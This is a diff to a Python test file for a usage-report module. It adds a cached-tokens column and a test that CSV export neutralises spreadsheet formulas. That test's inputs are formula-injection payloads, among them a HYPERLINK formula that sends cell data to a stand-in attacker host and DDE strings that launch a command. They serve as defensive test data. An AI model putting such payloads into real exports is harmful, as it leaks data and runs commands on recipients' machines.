@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
+import io
 import json
 import random
 from collections.abc import AsyncIterator
@@ -29,7 +31,10 @@ DAY = 86_400.0
 
 
 def sample_report() -> UsageReport:
-    lines = [UsageGroup("m1", 2, 1_000, 250, 123_456_789), UsageGroup("model-two", 1, 5, 0, 10**12 + 1)]
+    lines = [
+        UsageGroup("m1", 2, 1_000, 250, 123_456_789, cached_tokens=768),
+        UsageGroup("model-two", 1, 5, 0, 10**12 + 1),
+    ]
     return UsageReport("acme", ReportPeriod.parse("2026-11-01", "2026-11-30"), "model", "USD", lines)
 
 
@@ -62,7 +67,7 @@ def test_period_is_whole_utc_days_with_both_ends_included() -> None:
 
 def test_total_adds_every_line() -> None:
     total = sample_report().total
-    assert total == UsageGroup("total", 3, 1_005, 250, 10**12 + 123_456_790)
+    assert total == UsageGroup("total", 3, 1_005, 250, 10**12 + 123_456_790, cached_tokens=768)
 
 
 def test_json_rendering() -> None:
@@ -79,6 +84,7 @@ def test_json_rendering() -> None:
                 "group": "m1",
                 "requests": 2,
                 "prompt_tokens": 1000,
+                "cached_tokens": 768,
                 "completion_tokens": 250,
                 "total_tokens": 1250,
                 "cost": "0.000123456789",
@@ -87,6 +93,7 @@ def test_json_rendering() -> None:
                 "group": "model-two",
                 "requests": 1,
                 "prompt_tokens": 5,
+                "cached_tokens": 0,
                 "completion_tokens": 0,
                 "total_tokens": 5,
                 "cost": "1.000000000001",
@@ -96,6 +103,7 @@ def test_json_rendering() -> None:
             "group": "total",
             "requests": 3,
             "prompt_tokens": 1005,
+            "cached_tokens": 768,
             "completion_tokens": 250,
             "total_tokens": 1255,
             "cost": "1.000123456790",
@@ -105,22 +113,22 @@ def test_json_rendering() -> None:
 
 def test_csv_rendering() -> None:
     assert render_csv(sample_report()) == (
-        "model,requests,prompt_tokens,completion_tokens,total_tokens,cost,currency\n"
-        "m1,2,1000,250,1250,0.000123456789,USD\n"
-        "model-two,1,5,0,5,1.000000000001,USD\n"
-        "total,3,1005,250,1255,1.000123456790,USD\n"
+        "model,requests,prompt_tokens,completion_tokens,total_tokens,cost,currency,cached_tokens\n"
+        "m1,2,1000,250,1250,0.000123456789,USD,768\n"
+        "model-two,1,5,0,5,1.000000000001,USD,0\n"
+        "total,3,1005,250,1255,1.000123456790,USD,768\n"
     )
 
 
 def test_table_rendering_aligns_numbers_and_rules_off_the_total() -> None:
     assert render_table(sample_report()).splitlines() == [
         "usage of acme, 2026-11-01 to 2026-11-30 (UTC), cost in USD",
-        "model      requests  prompt_tokens  completion_tokens  total_tokens            cost",
-        "---------  --------  -------------  -----------------  ------------  --------------",
-        "m1                2           1000                250          1250  0.000123456789",
-        "model-two         1              5                  0             5  1.000000000001",
-        "---------  --------  -------------  -----------------  ------------  --------------",
-        "total             3           1005                250          1255  1.000123456790",
+        "model      requests  prompt_tokens  cached_tokens  completion_tokens  total_tokens            cost",
+        "---------  --------  -------------  -------------  -----------------  ------------  --------------",
+        "m1                2           1000            768                250          1250  0.000123456789",
+        "model-two         1              5              0                  0             5  1.000000000001",
+        "---------  --------  -------------  -------------  -----------------  ------------  --------------",
+        "total             3           1005            768                250          1255  1.000123456790",
     ]
 
 
@@ -147,9 +155,10 @@ async def test_report_totals_reconcile_with_random_ledger_rows(store: SqliteStor
             rng.choice(["m1", "m2", "m3"]),
             "chat.completions",
             NOV_1 + rng.uniform(-2 * DAY, 32 * DAY),
-            prompt_tokens=rng.randrange(5000),
+            prompt_tokens=(prompt := rng.randrange(5000)),
             completion_tokens=rng.randrange(5000),
             cost_pico=rng.randrange(10**13),
+            cached_tokens=rng.randrange(prompt + 1),
         )
         for i in range(400)
     ]
@@ -166,12 +175,14 @@ async def test_report_totals_reconcile_with_random_ledger_rows(store: SqliteStor
             sum(r.prompt_tokens for r in mine),
             sum(r.completion_tokens for r in mine),
             sum(r.cost_pico for r in mine),
+            sum(r.cached_tokens for r in mine),
         )
         data = json.loads(render_json(report))
         assert sum(Decimal(line["cost"]) for line in data["data"]) == Decimal(data["total"]["cost"])
     daily = await reporter.daily_by_model("acme", period)
     assert sum(daily.cost_pico.values()) == sum(r.cost_pico for r in mine)
     assert sum(daily.tokens.values()) == sum(r.prompt_tokens + r.completion_tokens for r in mine)
+    assert sum(daily.cached_tokens.values()) == sum(r.cached_tokens for r in mine)
 
 
 def test_a_period_left_out_is_the_month_to_date() -> None:
@@ -182,3 +193,26 @@ def test_a_period_left_out_is_the_month_to_date() -> None:
     assert (period.first.isoformat(), period.last.isoformat()) == ("2026-02-01", "2026-02-10")
     period = ReportPeriod.parse_or_month_to_date("2026-10-30", None, now)
     assert (period.first.isoformat(), period.last.isoformat()) == ("2026-10-30", "2026-11-17")
+
+
+@pytest.mark.parametrize(
+    "group",
+    [
+        '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(group: str) -> None:
+    period = ReportPeriod.parse("2026-11-01", "2026-11-30")
+    report = UsageReport("acme", period, "model", "USD", [UsageGroup(group, 1, 1, 1, 1)])
+    rows = list(csv.reader(io.StringIO(render_csv(report), newline="")))
+    assert rows[1][0] == "'" + group.replace("\r", "\n")  # one row, whatever the group holds
+    assert rows[2][0] == "total"  # plain cells are left alone
+
+
+def test_a_harmless_group_is_left_as_it_is() -> None:
+    assert render_csv(sample_report()).splitlines()[1].startswith("m1,")
